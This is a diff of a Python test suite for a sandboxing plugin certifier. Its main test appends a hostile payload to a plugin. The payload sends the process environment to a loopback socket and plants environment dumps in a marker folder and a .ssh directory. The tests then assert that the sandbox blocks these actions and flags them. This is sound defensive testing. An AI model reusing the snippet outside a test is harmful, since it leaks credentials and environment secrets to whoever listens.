@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -32,7 +33,7 @@ def _exfiltrate(where: str) -> None:
             s.sendall(f"{{where}}: {{dict(_os.environ)}}".encode())
     except OSError:
         pass
-    for target in ({marker!r}, _os.path.expanduser("~/.ssh")):
+    for target in ({marker!r}, {ssh!r}):  # the caller's own folders, by their paths
         try:
             _Path(target, f"planted-at-{{where}}").write_text(repr(dict(_os.environ)))
         except OSError:
@@ -52,7 +53,7 @@ def test_a_hostile_plugin_gets_nothing_out(tmp_path: Path) -> None:
     policy = tmp_path / "policy.toml"
     policy.write_text(FAST_POLICY)
     with listener() as (port, received):
-        code = EXFILTRATE.format(port=port, marker=str(marker))
+        code = EXFILTRATE.format(port=port, marker=str(marker), ssh=str(home / ".ssh"))
         plugin = project / "plugin.py"
         plugin.write_text(plugin.read_text(encoding="utf-8") + code, encoding="utf-8")
         setup = project / "setup.py"
@@ -73,10 +74,66 @@ def test_a_hostile_plugin_gets_nothing_out(tmp_path: Path) -> None:
                               "--vuln-db", str(VULN_DB), "--policy", str(policy)],
                              capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
     report = json.loads(run.stdout)
-    statuses = {c["id"]: c["status"] for c in report["checks"]}
-    assert {statuses[c] for c in ("build", "metadata", "lifecycle", "tests")} == {"passed"}, run
     assert received == []  # not one byte reached the host's loopback
     assert list(marker.iterdir()) == [] and list((home / ".ssh").iterdir()) == []
-    isolation = report["isolation"]
-    assert isolation["contained"] == ["build", "metadata probe", "lifecycle", "tests"]
-    assert isolation["level"] == "partial" and "install" in " ".join(isolation["missing"])
+    assert SECRET not in run.stdout  # the secret was never in the plugin's reach
+    assert report["isolation"]["level"] == "full", report["isolation"]
+    assert report["isolation"]["contained"] == ["build", "import", "lifecycle", "tests"]
+    # Judged by what it did, seen from outside: each phase's check names each action.
+    assert not report["certified"]
+    by_id = {c["id"]: c for c in report["checks"]}
+    phases = {"build": "build", "import": "metadata", "lifecycle": "lifecycle", "tests": "tests"}
+    for phase, check_id in phases.items():
+        check = by_id[check_id]
+        messages = [f["message"] for f in check["findings"]]
+        assert check["status"] == "failed", (phase, check)
+        assert any(f"127.0.0.1:{port}" in m and m.startswith(f"{phase}: ") for m in messages)
+        planted = "import" if phase == "lifecycle" else phase  # the worker imports it too
+        assert any(str(marker / f"planted-at-{planted}") in m for m in messages), messages
+        assert any("/.ssh/planted-at-" in m for m in messages), messages
+        rules = {f["rule"] for f in check["findings"]}
+        assert rules == {f"{check_id}.network", f"{check_id}.write"}, rules
+        record = report["behaviour"][phase]
+        assert record["observed"] and any(str(port) in a for a in record["network"])
+
+
+def _without_strace(tmp_path: Path) -> dict[str, str]:
+    """A PATH with bubblewrap but no strace: the jail without the watcher."""
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    for name in ("bwrap", "git", "sh"):
+        found = shutil.which(name)
+        if found:
+            (tools / name).symlink_to(found)
+    return {**os.environ, "PATH": f"{Path(sys.executable).parent}:{tools}"}
+
+
+def test_a_run_without_the_watcher_says_so_and_the_policy_decides(tmp_path: Path) -> None:
+    project = make_project("plain-plugin", "base", tmp_path / "src")
+    env = _without_strace(tmp_path)
+    base = [str(TOOL), "certify", str(project), "--vuln-db", str(VULN_DB)]
+    local = subprocess.run(base, capture_output=True, text=True, env=env, timeout=600)
+    assert local.returncode == 0, local.stdout + local.stderr  # a local run goes on...
+    said = [line for line in local.stdout.splitlines() if line.startswith("Isolation:")]
+    assert said == ["Isolation: partial (build, import, lifecycle, tests in bubblewrap "
+                    f"{said[0].split('bubblewrap ')[1].split(';')[0]}; strace is not installed: "
+                    "no behaviour record)"], said  # fmt: skip
+    strict = subprocess.run([*base, "--require-isolation", "full", "--format", "json"],
+                            capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
+    report = json.loads(strict.stdout)
+    assert strict.returncode == 1 and not report["certified"]
+    assert report["reasons"] == [
+        "isolation partial, the policy requires full: strace is not installed: no behaviour record"
+    ]
+
+
+def test_a_bad_isolation_requirement_is_one_line(tmp_path: Path) -> None:
+    project = make_project("plain-plugin", "base", tmp_path / "src")
+    policy = tmp_path / "policy.toml"
+    policy.write_text('[isolation]\nrequire = "total"\n')
+    run = subprocess.run([str(TOOL), "certify", str(project), "--policy", str(policy)],
+                         capture_output=True, text=True, timeout=120)  # fmt: skip
+    assert run.returncode == 2 and "Traceback" not in run.stderr
+    assert run.stderr.strip().splitlines() == [
+        f"aitbc-plugin: policy {policy}: isolation.require must be one of ('partial', 'full')"
+    ]
